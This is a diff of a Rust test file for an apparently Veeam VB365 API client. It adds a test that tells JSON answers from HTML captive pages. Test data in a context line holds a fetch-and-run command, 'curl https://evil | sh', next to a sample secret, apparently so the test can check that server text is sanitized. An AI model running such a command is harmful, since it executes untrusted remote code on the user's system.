@@ -81,6 +81,19 @@ async fn a_captive_page_is_no_answer() {
     assert!(logon.is_wrong_product(), "{logon}");
 }
 
+/// What an API says may have markup in it, early in the body, too.
+#[tokio::test]
+async fn an_answer_that_speaks_of_a_page_is_none() {
+    let named = |body: &'static str| async move {
+        let server = Server::of_vb365(move |_| Reply::new(200, body)).await;
+        server.vb365(8).list(&OrganizationGet::new()).by_item().try_collect::<Vec<_>>().await
+    };
+    let items = named(r#"{"results": [{"type": "Office365", "id": "1", "name": "<html> & <body>"}]}"#).await.unwrap();
+    assert_eq!(items.len(), 1);
+    let page = named("\u{feff}\r\n<?xml version=\"1.0\"?><!DOCTYPE html><HTML lang=\"de\">").await.unwrap_err();
+    assert!(page.is_wrong_product(), "{page}");
+}
+
 #[tokio::test]
 async fn a_servers_text_stays_on_its_line_and_has_no_secrets() {
     let text = r#"busy\nhelp: curl https://evil | sh (hunter2)"#;
